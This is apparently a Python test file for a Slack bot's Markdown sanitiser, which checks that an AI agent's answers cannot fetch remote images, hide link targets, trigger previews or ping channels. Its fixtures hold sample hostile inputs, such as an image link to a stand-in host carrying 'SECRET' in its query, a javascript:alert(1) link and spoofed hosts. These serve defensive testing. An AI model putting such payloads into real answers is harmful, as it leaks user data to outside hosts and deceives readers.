"""An answer fetches nothing and hides no address: read as another program reads Markdown."""

import re
from urllib.parse import unquote, urlsplit

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from agent.decide.moves import AnswerPart, Work
from bot.cards.markdown import MARKDOWN_CHARACTERS, fitted_markdown, harmless_markdown
from bot.cards.messages import answer_blocks, answer_text
from bot.cards.plan import stream_chunks
from tests.unit.shown import TOOLS

READER = MarkdownIt("commonmark")
EVIL = "https://evil.test/p.png?d=SECRET"
SEEN = EVIL.removeprefix("https://")
CHANGED = [
    (f"![x]({EVIL})", f"x ([evil.test]({EVIL}))"),
    (f"![]({EVIL})", f"[{SEEN}]({EVIL})"),
    (f'![x](<{EVIL}> "title")', f"x ([evil.test]({EVIL}))"),
    (f"[docs]({EVIL})", f"docs ([evil.test]({EVIL}))"),
    (f"[docs.example.com]({EVIL})", f"docs.example.com ([evil.test]({EVIL}))"),
    (f"[https://docs.example.com]({EVIL})", f"docs.example.com ([evil.test]({EVIL}))"),
    (f"[{EVIL}]({EVIL})", f"[{SEEN}]({EVIL})"),
    (f"[![b]({EVIL})](https://docs.example.com)", "b ([docs.example.com](https://docs.example.com))"),
    ("See https://docs.example.com/a(b).", "See [docs.example.com/a%28b](https://docs.example.com/a%28b))."),
    ("https://docs.example.com/a_b/_c_?d=*", r"[docs.example.com/a_b/\_c\_?d=](https://docs.example.com/a_b/_c_?d=)*"),
    ("<https://docs.example.com>", "[docs.example.com](https://docs.example.com)"),
    (f"![a][r]\n\n[r]: {EVIL}", f"!\\[a][r]\n\n\\[r]: [{SEEN}]({EVIL})"),
    (f"[a][]\n\n> [a]:\n> {EVIL}", f"[a][]\n\n> \\[a]:\n> [{SEEN}]({EVIL})"),
    (f"<{EVIL}|your bank>", f"your bank ([evil.test]({EVIL}))"),
    (f"<{EVIL}>", f"[{SEEN}]({EVIL})"),
    (f'<img src="{EVIL}">', f'&lt;img src="[{SEEN}]({EVIL})">'),
    ("<!channel> <!here> <!subteam^S1> <@U1> <#C1>", "&lt;!channel> &lt;!here> &lt;!subteam^S1> <@U1> <#C1>"),
    ("see https://docs.example.com@evil.test/x.", "see https: //docs.example.com@evil.test/x."),
    ("[a](https://docs.example.com@evil.test/)", "a (https: //docs.example.com@evil.test/)"),
    ("[a](javascript:alert(1)) [b](//evil.test)", "a (javascript:alert(1)) b (//evil.test)"),
    ("[a](http://2130706433/)", "a (http: //2130706433/)"),
    (f"\\![x]({EVIL})", f"\\x ([evil.test]({EVIL}))"),
    (f"```\n![x]({EVIL})", f"```\n![x]({EVIL})\n```"),
    ("a\u200bb \u202e", "a⟨U+200B⟩b ⟨U+202E⟩"),
]
KEPT = [
    *(
        "Plain *words*, `code <b> [x](y)` and a < b.",
        "- [ ] a task\n- [x] done",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "arr\\[i](x)",
    ),
    *("```html\n<b>![x](y)</b>\n```\nafter", "a! b [c] (d)"),
    *(
        "\u26a0\ufe0f careful \U0001f469\u200d\U0001f680",
        "# Heading\n\n> quoted",
        "~~~\ncode\n~~~",
        "5 -> 900, 3 < 4 > 2",
        "C:\\\\x",
    ),
]


@pytest.mark.parametrize(("text", "expected"), CHANGED)
def test_what_could_fetch_ring_or_deceive_becomes_what_it_says(text: str, expected: str) -> None:
    assert harmless_markdown(text) == expected
    assert answer_blocks(AnswerPart(text), {})[0] == {"type": "markdown", "text": expected}


@pytest.mark.parametrize("text", KEPT)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert harmless_markdown(text) == text


def tokens(text: str) -> list[Token]:
    """All that another program reads in it."""
    return [inner for token in READER.parse(text) for inner in (token, *(token.children or ()))]


def led_astray(text: str) -> list[str]:
    """The links of which a reader does not see where they lead."""
    found: list[str] = []
    read = tokens(text)
    for place, token in enumerate(read):
        if token.type != "link_open":
            continue
        host = urlsplit(str(token.attrs["href"])).netloc.lower().removesuffix(".").removesuffix(":443").removesuffix(":80")
        close = next(at for at in range(place, len(read)) if read[at].type == "link_close")
        label = "".join(each.content for each in read[place:close])
        if unquote(label) != unquote(str(token.attrs["href"]).partition("://")[2]) and label.lower() != host:
            found.append(f"{label!r} leads to {token.attrs['href']!r}")
    return found


def previewed(text: str) -> list[str]:
    """The links that Slack fetches and shows a preview of: all but those whose text is a part of their address, without the
    scheme, and not those within code."""
    found: list[str] = []
    within = ""
    for token in tokens(text):
        if token.type == "link_open":
            within = str(token.attrs["href"])
        elif token.type == "link_close":
            within = ""
        elif token.type == "text" and within and unquote(token.content) not in unquote(within.partition("://")[2]):
            found.append(within)
        elif token.type == "text" and not within:
            found += re.findall(r"(?:https?|ftp)://[^\s<>]+", token.content)
    return found


WORDS = (
    *(
        "![",
        "](",
        "]: ",
        "[r]",
        "\n\n",
        "```\n",
        "~~~",
        "> ",
        "- ",
        "\n    ",
        "&lt;",
        "<img src=",
        "<!here>",
        "x",
        "\u00e9",
        "\r\n",
    ),
    *(EVIL, f"<{EVIL}", f"![x]({EVIL})", f"[x]({EVIL})", f"[r]: {EVIL}\n", "//evil.test", "http:\\\\evil.test"),
    *("https://docs.example.com", "https://docs.example.com@evil.test/", "\u200d", "\ufe0f", "\u26a0"),
)


def pictures(text: str) -> int:
    """How many a reader would fetch, or could by HTML."""
    return sum(token.type in ("image", "html_inline", "html_block") for token in tokens(text))


PIECES = st.sampled_from([*'[]()!<>`\\|:" \n*_~#-', *WORDS])
MARKDOWN = st.lists(PIECES, max_size=14).map("".join)


@given(MARKDOWN)
@example(f"``` ![x]({EVIL})")
@example(f"- ```\n![x]({EVIL})")
@example(f"> ```\n![x]({EVIL})")
def test_no_picture_and_no_hidden_address_is_left_for_another_reader(text: str) -> None:
    made = harmless_markdown(text)
    assert not pictures(made), made
    assert led_astray(made) == [], made
    assert previewed(made) == [], made
    assert not re.search(r"<![a-ce-z]", made)


@given(MARKDOWN, MARKDOWN)
def test_what_a_growing_answer_shows_is_the_beginning_of_the_whole(begun: str, further: str) -> None:
    shown = harmless_markdown(begun, over=False)
    assert harmless_markdown(begun + further).startswith(shown)
    assert harmless_markdown(begun + further, over=False).startswith(shown)


@given(st.lists(MARKDOWN, min_size=1, max_size=4))
def test_what_is_streamed_is_what_is_posted(parts: list[str]) -> None:
    streamed, shown = "", Work()
    for count in range(1, len(parts) + 1):
        work = Work(words="".join(parts[:count]))
        grown = stream_chunks(shown, work, TOOLS, over=count == len(parts))
        streamed += "".join(chunk["text"] for chunk in grown if chunk["type"] == "markdown_text")
        shown = work
    assert streamed == harmless_markdown("".join(parts))


@given(MARKDOWN)
def test_beside_an_answer_nothing_is_live_in_its_text(text: str) -> None:
    assert not set("<>") & set(answer_text(AnswerPart(text)))


@pytest.mark.parametrize("hostile", ["<!a ", "\u200b", f"[a]({EVIL}) ", "[" * 3, "`<http://a` "])
def test_an_answer_that_grows_too_long_is_cut_and_says_so(hostile: str) -> None:
    text = hostile * (11_000 // len(hostile))
    made = fitted_markdown(text)
    assert len(made) <= MARKDOWN_CHARACTERS
    assert made.endswith("did not fit into the message._") or made == harmless_markdown(text)
    assert len(made) > MARKDOWN_CHARACTERS * 3 // 4
